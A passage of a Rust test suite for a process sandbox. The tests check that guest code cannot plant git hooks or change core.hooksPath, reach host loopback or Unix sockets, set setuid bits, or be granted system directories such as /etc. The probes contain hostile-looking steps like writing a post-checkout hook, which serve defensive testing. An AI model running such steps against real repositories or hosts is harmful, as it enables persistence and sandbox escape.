         echo evil > .git/hooks/post-checkout 2>/dev/null && echo hook-planted; \
         {git} config core.hooksPath /tmp 2>/dev/null && echo config-changed; true"
    );
    let r = run(sh(&script).with_workspace(&ws, Access::ReadWrite).unwrap());
    let out = stdout(&r);
    assert_eq!(out, "committed\n", "{out} {}", stderr(&r));
    // Judged by the host's git: the commit is there, and nothing that runs was added.
    assert_eq!(host_git(&["log", "--format=%s"]), "from-the-sandbox\n");
    assert!(!ws.join(".git/hooks/post-checkout").exists());
    assert!(!host_git(&["config", "--list", "--local"]).contains("hookspath"));
    let _ = std::fs::remove_dir_all(&ws);
}

#[test]
fn g12_a_loopback_listener_is_the_hosts_and_the_only_port_the_guest_reaches() {
    require!("g12_a_loopback_listener_is_the_hosts_and_the_only_port_the_guest_reaches");
    // The host's own listener on its loopback: the guest must not reach it, even with the
    // run's loopback up.
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let hport = host.local_addr().unwrap().port();
    let grants = host_dir("loopback-grants");
    let (tx, rx) = std::sync::mpsc::channel();
    let loopback = stockade_process::Loopback::new(8765, move |l: TcpListener| {
        // The host serves the listener: it records each connection, then sends one line back
        // (recorded first: the guest may read the line and end the run before a send after
        // the write, seen once on a loaded machine).
        std::thread::spawn(move || {
            for conn in l.incoming().flatten() {
                let mut conn = conn;
                let _ = tx.send(());
                let _ = std::io::Write::write_all(&mut conn, b"host-side\n");
            }
        });
    });
    let job = probe_py(&format!(
        r#"
import os, socket
def served():
    s = socket.create_connection(("127.0.0.1", 8765), timeout=5)
    assert s.makefile().readline() == "host-side\n"
attempt("served", served)
attempt("host", lambda: socket.create_connection(("127.0.0.1", {hport}), timeout=2))
attempt("other", lambda: socket.create_connection(("127.0.0.1", 8766), timeout=2))
def bind():
    s = socket.socket(); s.bind(("127.0.0.1", 9000)); s.listen()
attempt("bind", bind)
def links(d):
    try:
        return [os.readlink(os.path.join(d, f)) for f in os.listdir(d)]
    except OSError as e:
        return []
print("sockets", sum(l.startswith("socket:") for d in ("/proc/self/fd", "/proc/1/fd") for l in links(d)))
print("init fds", len(links("/proc/1/fd")))
"#
    ));
    let r =
        block_on(tier().run_live(&job, Some(&grants), Some(loopback), stockade_protocol::LiveIo::default())).unwrap();
    let out = stdout(&r);
    assert_eq!(line(&out, "served"), "OK", "{out}{}", stderr(&r));
    assert_ne!(line(&out, "host"), "OK", "{out}");
    assert_eq!(line(&out, "other"), "EACCES", "{out}");
    assert_eq!(line(&out, "bind"), "EACCES", "{out}");
    assert_eq!(line(&out, "sockets"), "0", "the listener reached the guest or init: {out}");
    assert!(host.accept().is_err(), "the host's own listener was reached");
    assert_eq!(rx.try_iter().count(), 1, "the host served exactly the guest's one connection");
    let net = r.enforcement.iter().find(|e| e.mechanism == Mechanism::NetNamespace).unwrap();
    assert!(net.detail.contains("127.0.0.1:8765"), "{}", net.detail);
    let _ = std::fs::remove_dir_all(&grants);
}

/// Mode bits of every entry under `dir`, recursively, with its owner.
fn modes(dir: &Path) -> Vec<(std::path::PathBuf, u32, u32, u32)> {
    use std::os::unix::fs::MetadataExt;
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let m = std::fs::symlink_metadata(e.path()).unwrap();
        out.push((e.path(), m.mode(), m.uid(), m.gid()));
        if m.is_dir() {
            out.extend(modes(&e.path()));
        }
    }
    out
}

#[test]
fn g13_a_private_workspace_of_the_invoking_user_is_the_guests_own() {
    require!("g13_a_private_workspace_of_the_invoking_user_is_the_guests_own");
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let (me, my_gid) = {
        let m = std::fs::metadata("/proc/self").unwrap();
        (m.uid(), m.gid())
    };
    // A 0700 directory two levels under another 0700 directory, holding a 0600 file: what
    // `mktemp -d` makes, and what a project under /root looks like.
    let outer = host_dir("ws-private");
    let ws = outer.join("deeper/ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("secret-input"), "only mine").unwrap();
    for (p, mode) in [(&outer, 0o700), (&outer.join("deeper"), 0o700), (&ws, 0o700)] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    std::fs::set_permissions(ws.join("secret-input"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let body = r#"
st = os.stat("/workspace/secret-input")
print("me", os.getuid(), "owner", st.st_uid)
attempt("list", lambda: print("entries", sorted(os.listdir("/workspace"))))
attempt("read", lambda: print("content", open("/workspace/secret-input").read()))
attempt("write", lambda: open("/workspace/made-by-guest", "w").write("out"))
attempt("mkdir", lambda: os.mkdir("/workspace/dir-by-guest"))
attempt("edit", lambda: open("/workspace/secret-input", "a").write(" and theirs"))
"#;
    let r = run(probe_py(body).with_workspace(&ws, Access::ReadWrite).unwrap());
    let out = stdout(&r);
    assert_eq!(r.status, Status::Exited { code: 0 }, "{out} {}", stderr(&r));
    let ids: Vec<&str> = line(&out, "me").split_whitespace().collect();
    assert_ne!(ids[0], "0", "the guest runs as uid 0: {out}");
    assert_eq!(ids[0], ids[2], "the guest does not own the invoking user's files: {out}");
    assert!(out.contains("entries ['secret-input']") && out.contains("content only mine"), "{out}");
    for label in ["list", "read", "write", "mkdir", "edit"] {
        assert_eq!(line(&out, label), "OK", "{label}: {out}");
    }
    // On the host, what the guest made belongs to the invoking user.
    for name in ["made-by-guest", "dir-by-guest", "secret-input"] {
        let m = std::fs::metadata(ws.join(name)).unwrap();
        assert_eq!((m.uid(), m.gid()), (me, my_gid), "{name} is owned by {}:{}", m.uid(), m.gid());
    }
    assert_eq!(std::fs::read_to_string(ws.join("secret-input")).unwrap(), "only mine and theirs");
    // Read-only, the same directory can be read and not written.
    let body = body.replace("-by-guest", "-by-guest-2");
    let r = run(probe_py(&body).with_workspace(&ws, Access::ReadOnly).unwrap());
    let out = stdout(&r);
    assert_eq!(line(&out, "read"), "OK", "{out}");
    for label in ["write", "mkdir", "edit"] {
        assert_eq!(line(&out, label), "EROFS", "{label}: {out}");
    }
    let _ = std::fs::remove_dir_all(&outer);
}

#[test]
fn g13_set_id_bits_cannot_be_planted_in_a_workspace() {
    require!("g13_set_id_bits_cannot_be_planted_in_a_workspace");
    let ws = host_dir("ws-setid");
    let body = r##"
open("/workspace/tool", "w").write("#!/bin/sh\nid\n")
attempt("chmod_suid", lambda: os.chmod("/workspace/tool", 0o4755))
attempt("chmod_sgid", lambda: os.chmod("/workspace/tool", 0o2755))
attempt("fchmod_suid", lambda: os.fchmod(os.open("/workspace/tool", os.O_RDONLY), 0o6755))
attempt("create_suid", lambda: os.open("/workspace/made-suid", os.O_CREAT | os.O_WRONLY, 0o4755))
attempt("mkfifo_sgid", lambda: os.mkfifo("/workspace/fifo", 0o2644))
attempt("chmod_plain", lambda: os.chmod("/workspace/tool", 0o755))
attempt("create_plain", lambda: os.open("/workspace/plain", os.O_CREAT | os.O_WRONLY, 0o755))
attempt("open_plain", lambda: os.open("/workspace/plain", os.O_RDONLY, 0o4755))
"##;
    let r = run(probe_py(body).with_workspace(&ws, Access::ReadWrite).unwrap());
    let out = stdout(&r);
    for label in ["chmod_suid", "chmod_sgid", "fchmod_suid", "create_suid", "mkfifo_sgid"] {
        assert_eq!(line(&out, label), "EPERM", "{label}: {out}");
    }
    for label in ["chmod_plain", "create_plain", "open_plain"] {
        assert_eq!(line(&out, label), "OK", "{label}: {out}");
    }
    // Judged on the host: no set-id bit anywhere in the workspace.
    let entries = modes(&ws);
    assert!(entries.iter().any(|(p, m, _, _)| p.ends_with("tool") && m & 0o777 == 0o755), "{entries:?}");
    for (p, mode, _, _) in &entries {
        assert_eq!(mode & 0o6000, 0, "{} has a set-id bit: {mode:o}", p.display());
    }
    let _ = std::fs::remove_dir_all(&ws);
}

#[test]
fn g13_only_dedicated_directories_are_granted() {
    require!("g13_only_dedicated_directories_are_granted");
    let link_dir = host_dir("ws-link-etc");
    std::os::unix::fs::symlink("/etc", link_dir.join("etc")).unwrap();
    let linked = link_dir.join("etc");
    let refused = |path: &Path, access: Access| {
        let job = sh("true").with_workspace(path, access).unwrap();
        match block_on(tier().run(&job)) {
            Err(stockade_process::RunError::Misconfigured(m)) => m,
            other => panic!("{} was granted: {other:?}", path.display()),
        }
    };
    for (path, access) in [
        (Path::new("/etc"), Access::ReadWrite),
        (Path::new("/etc"), Access::ReadOnly),
        (Path::new("/"), Access::ReadOnly),
        (Path::new("/usr/lib"), Access::ReadOnly),
        (Path::new("/tmp"), Access::ReadWrite),
        (Path::new("/root"), Access::ReadOnly),
        (Path::new("/var/lib"), Access::ReadOnly),
    ] {
        let m = refused(path, access);
        assert!(m.starts_with(&format!("workspace {} cannot be granted: ", path.display())), "{m}");
        assert!(!m.contains('\n'), "{m}");
    }
    // A symlink is judged by where it leads.
    let m = refused(&linked, Access::ReadWrite);
    assert!(m.starts_with("workspace /etc cannot be granted: it is a system directory"), "{m}");
    // A missing path names the path and the reason.
    let m = refused(&link_dir.join("absent"), Access::ReadOnly);
    assert!(m.contains("absent") && m.contains("No such file or directory"), "{m}");
    // A directory inside /tmp is dedicated.
    let ok = run(sh("ls /workspace").with_workspace(&link_dir, Access::ReadOnly).unwrap());
    assert_eq!(stdout(&ok), "etc\n");
    let _ = std::fs::remove_dir_all(&link_dir);
}

#[test]
fn g1_a_host_socket_inside_a_granted_workspace_is_covered() {
    require!("g1_a_host_socket_inside_a_granted_workspace_is_covered");
    let ws = host_dir("ws-socket");
    std::fs::create_dir_all(ws.join("run/deeper")).unwrap();
    std::fs::write(ws.join("run/notes.txt"), "readable").unwrap();
    // A host daemon's socket, open to everyone, at two depths.
    let listeners: Vec<UnixListener> = ["daemon.sock", "run/deeper/agent.sock"]
        .iter()
        .map(|p| {
            let l = UnixListener::bind(ws.join(p)).unwrap();
            std::fs::set_permissions(ws.join(p), std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
            l.set_nonblocking(true).unwrap();
            l
        })
        .collect();
    let body = r#"
import socket
def conn(p):
    s = socket.socket(socket.AF_UNIX)
    s.connect(p)
    s.send(b"guest bytes")
attempt("top", lambda: conn("/workspace/daemon.sock"))
attempt("deep", lambda: conn("/workspace/run/deeper/agent.sock"))
attempt("read", lambda: open("/workspace/run/notes.txt").read())
"#;
    for access in [Access::ReadOnly, Access::ReadWrite] {
        let r = run(probe_py(body).with_workspace(&ws, access).unwrap());
        let out = stdout(&r);
        assert_eq!(line(&out, "top"), "ECONNREFUSED", "{access:?}: {out}");
        assert_eq!(line(&out, "deep"), "ECONNREFUSED", "{access:?}: {out}");
        assert_eq!(line(&out, "read"), "OK", "{access:?}: {out}");
        let view = r.enforcement.iter().find(|e| e.mechanism == Mechanism::MountNamespace).unwrap();
        assert!(
            view.detail.contains("unix sockets and fifos covered: daemon.sock run/deeper/agent.sock"),
            "{}",
            view.detail
        );
    }
    // Judged by the host: neither daemon got a connection.
    for l in &listeners {
        assert!(l.accept().is_err(), "a host daemon in the workspace was reached");
    }
    let _ = std::fs::remove_dir_all(&ws);
}
